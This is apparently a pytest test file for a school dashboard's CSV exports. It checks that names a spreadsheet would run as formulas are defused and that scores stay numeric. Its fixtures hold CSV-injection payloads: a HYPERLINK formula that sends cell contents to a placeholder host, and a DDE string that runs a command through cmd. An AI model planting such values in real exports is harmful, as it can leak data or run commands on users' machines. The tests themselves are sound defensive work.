"""The dashboards' CSV downloads defuse names a spreadsheet would run as formulas (a student
named ``=HYPERLINK(…)``, a class or teacher likewise) and keep every score a number, negative
changes and gains included."""

import pytest
from django.urls import reverse

from data_tracking.compile import school_compile
from data_tracking.models import Window
from tests.data_tracking.factories import (
    EnrollmentFactory,
    SectionFactory,
    StudentFactory,
    benchmark,
    record,
)
from tests.data_tracking.reading import csv_rows
from tests.teams.factories import staff_at

pytestmark = pytest.mark.django_db

# first name: (fall, winter). Every score falls, so every change and the mean gain is negative.
STUDENTS = {
    '=HYPERLINK("http://x.example/"&A2,"click")': (215, 205),
    "@SUM(1+1)": (212, 207),
    "+1": (221, 218),
    "-1+2": (208, 199),
    "\tTab": (230, 224),
    "\rCR": (203, 201),
}
CLASS_NAME = "=cmd|' /C calc'!A0"
TEACHER_FIRST_NAME = "@SUM(9*9)"


@pytest.fixture
def term(world):
    school = world.school
    teacher = staff_at(school, first_name=TEACHER_FIRST_NAME, last_name="Otis")
    section = SectionFactory(school=school, teacher=teacher, name=CLASS_NAME, grade="3")
    fall, winter = (benchmark(world.district, window) for window in (Window.FALL, Window.WINTER))
    for first_name, (fall_score, winter_score) in STUDENTS.items():
        student = StudentFactory(
            school=school, first_name=first_name, last_name="Lastname", grade="3"
        )
        EnrollmentFactory(section=section, student=student)
        record(fall, student, fall_score)
        record(winter, student, winter_score)
    school_compile(school=school)
    return {"section": section}


def download(client, user, url, **params):
    client.force_login(user)
    response = client.get(url, {"format": "csv", **params})
    assert response.status_code == 200
    return csv_rows(response)


def by_column(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def assert_students_are_safe(rows):
    students = by_column(rows)
    assert sorted(row["first_name"] for row in students) == sorted(f"'{n}" for n in STUDENTS)
    for row in students:
        fall, winter = STUDENTS[row["first_name"][1:]]
        # Numbers, written as numbers: no quote in front of the negative change.
        assert float(row["score"]) == winter
        assert float(row["previous_score"]) == fall
        assert row["change"].startswith("-")
        assert float(row["change"]) == winter - fall
        assert row["last_name"] == "Lastname"


def test_the_grade_csv_of_students_defuses_formulas_and_keeps_scores_numbers(client, world, term):
    url = reverse("data_tracking:grade_dashboard", args=["maple", "3"])

    assert_students_are_safe(download(client, world.principal, url, table="students"))


def test_the_class_csv_defuses_formulas_and_keeps_scores_numbers(client, world, term):
    url = reverse("data_tracking:section_dashboard", args=[term["section"].pk])

    assert_students_are_safe(download(client, world.principal, url))


def test_the_grade_csv_of_classes_defuses_the_class_and_teacher_names(client, world, term):
    url = reverse("data_tracking:grade_dashboard", args=["maple", "3"])

    [row] = by_column(download(client, world.principal, url))

    assert row["class"] == f"'{CLASS_NAME}"
    assert row["teacher"] == f"'{TEACHER_FIRST_NAME} Otis"
    assert row["tested"] == str(len(STUDENTS))
    assert float(row["mean_score"]) > 0


def test_a_negative_mean_gain_stays_a_number_in_the_school_csv(client, world, term):
    url = reverse("data_tracking:school_dashboard", args=["maple"])

    [gain] = by_column(download(client, world.principal, url, table="gains"))

    mean_gain = sum(w - f for f, w in STUDENTS.values()) / len(STUDENTS)
    assert gain["mean_gain"].startswith("-")
    assert float(gain["mean_gain"]) == pytest.approx(mean_gain, abs=0.05)
